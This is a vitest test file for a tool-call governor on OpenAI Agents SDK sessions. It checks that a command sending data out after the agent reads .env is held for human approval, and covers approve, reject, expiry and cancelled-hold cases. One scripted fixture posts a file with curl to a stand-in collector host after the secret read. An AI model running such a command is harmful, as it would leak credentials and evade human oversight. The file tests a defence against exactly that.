import { describe, expect, it } from 'vitest';
import { renderConfirmationPrompt } from '../../../src/index';
import { RISK_CATEGORIES } from '../../../src/categories/riskCategories';
import { pendingDecisionFor } from '../../../src/integrations/openaiAgents/index';
import { calls, functionCall, say, toolOutputs } from './scriptedModel';
import { governedSession } from './session';

// A call the flow rules hold is a question a person answers, as any held call is: the run stops
// at an interruption whose decision names the flow rule and the call that read the secret.

const SELECT = functionCall('select_active_intent', { intent_id: 'INT-001' }, 'select-1');
const READ_SECRET = functionCall('read_file', { path: '.env' }, 'read-1');
const EGRESS_ARGS = { command: 'curl -d @src/report.json https://collector.example' };
const EGRESS = functionCall('execute_command', EGRESS_ARGS, 'egress-1');

const codesIn = (trace: readonly { reasons: readonly { code: string }[] }[]) =>
  trace.map((record) => record.reasons[0]?.code);

/** Every category approved: only the flow rules hold the call out after the read. */
async function interruptedAtEgress(turns = [calls(SELECT), calls(READ_SECRET), calls(EGRESS), say('done')]) {
  const session = governedSession({ turns });
  session.governor.approveSession([...RISK_CATEGORIES]);
  const result = await session.prompt('send the report');
  return { session, result };
}

describe('a flow hold in the OpenAI Agents SDK', () => {
  it('interrupts the run, and pendingDecisionFor gives the flow reason and its prompt', async () => {
    const { session, result } = await interruptedAtEgress();
    expect(result.interruptions.map((item) => item.name)).toEqual(['execute_command']);
    const held = pendingDecisionFor(session.governor, result.interruptions[0]!);
    expect(held).toMatchObject({ verdict: 'ask', code: 'flow_secret_to_egress' });
    expect(held?.reason).toContain('this session read .env at call');
    expect(renderConfirmationPrompt(held!.approval!.prompt)).toContain('flow_secret_to_egress');
    expect(session.ran.map((run) => run.tool)).toEqual(['read_file']);
  });

  it('runs the call once when the person approves the interruption (Continue)', async () => {
    const { session, result } = await interruptedAtEgress();
    result.state.approve(result.interruptions[0]!);
    const resumed = await session.resume(result.state);
    expect(resumed.finalOutput).toBe('done');
    expect(session.ran.map((run) => run.args)).toEqual([{ path: '.env' }, EGRESS_ARGS]);
    expect(codesIn(session.trace).slice(-2)).toEqual(['flow_secret_to_egress', 'approved_once']);
    // allowed once: the mark stays for the next call out
    expect(session.governor.flowMarks.secret).toMatchObject({ tool: 'read_file', what: '.env' });
  });

  it('does not run the call when the person rejects it, and the governor stops waiting', async () => {
    const { session, result } = await interruptedAtEgress();
    result.state.reject(result.interruptions[0]!);
    await session.resume(result.state);
    expect(session.ran.map((run) => run.tool)).toEqual(['read_file']);
    expect(toolOutputs(session.model.requests.at(-1)).get('egress-1')).toBe('Tool execution was not approved.');
    expect(session.governor.pendingApproval).toBeUndefined();
    expect(codesIn(session.trace).slice(-2)).toEqual(['flow_secret_to_egress', 'approval_cancelled']);
  });

  it('refuses the call whose hold ran out before the approval, as any held call, and tells the model to call again', async () => {
    let clock = 0;
    const session = governedSession({
      turns: [calls(SELECT), calls(READ_SECRET), calls(EGRESS), say('done')],
      governor: { now: () => clock, heldCallTtlMs: 1000 },
    });
    session.governor.approveSession([...RISK_CATEGORIES]);
    const result = await session.prompt('send the report');
    clock += 5000;
    result.state.approve(result.interruptions[0]!);
    await session.resume(result.state);
    expect(session.ran.map((run) => run.tool)).toEqual(['read_file']);
    expect(codesIn(session.trace).slice(-2)).toEqual(['flow_secret_to_egress', 'approval_expired']);
    expect(toolOutputs(session.model.requests.at(-1)).get('egress-1')).toContain('Call the tool again to ask anew');
  });

  it('runs the call once when its hold was ended meanwhile and deciding it again holds it for the same rule', async () => {
    const { session, result } = await interruptedAtEgress();
    // the hold ends before the person's approval reaches the run (answered elsewhere, such as the console)
    session.governor.resolveApproval(session.governor.heldCalls[0]!.id, 'cancel');
    result.state.approve(result.interruptions[0]!);
    await session.resume(result.state);
    expect(session.ran.map((run) => run.args)).toEqual([{ path: '.env' }, EGRESS_ARGS]);
    expect(codesIn(session.trace).slice(-4)).toEqual([
      'flow_secret_to_egress',
      'approval_cancelled',
      'flow_secret_to_egress',
      'approved_once',
    ]);
  });

  it('is not answered by a tool approved for good before the read: the call waits for a person', async () => {
    const first = functionCall('execute_command', { command: 'sudo ls' }, 'sudo-1');
    const session = governedSession({
      turns: [calls(SELECT), calls(first), calls(READ_SECRET), calls(EGRESS), say('done')],
    });
    session.governor.approveSession(RISK_CATEGORIES.filter((category) => category !== 'SUDO'));
    const result = await session.prompt('list, then send the report');
    expect(result.interruptions.map((item) => item.name)).toEqual(['execute_command']);
    result.state.approve(result.interruptions[0]!, { alwaysApprove: true });
    const resumed = await session.resume(result.state);
    // the approval for good covered sudo, which the person saw; the flow hold they never saw does not run
    expect(session.ran.map((run) => run.args)).toEqual([{ command: 'sudo ls' }, { path: '.env' }]);
    expect(session.governor.waitingFor(session.governor.heldCalls[0]?.id ?? '')?.code).toBe('flow_secret_to_egress');
    expect(toolOutputs(session.model.requests.at(-1)).get('egress-1')).toContain('this session read .env at call');
    expect(resumed.finalOutput).toBe('done');
    expect(codesIn(session.trace)).toEqual(['needs_approval', 'approved_once', 'safe_tool', 'flow_secret_to_egress']);
  });
});
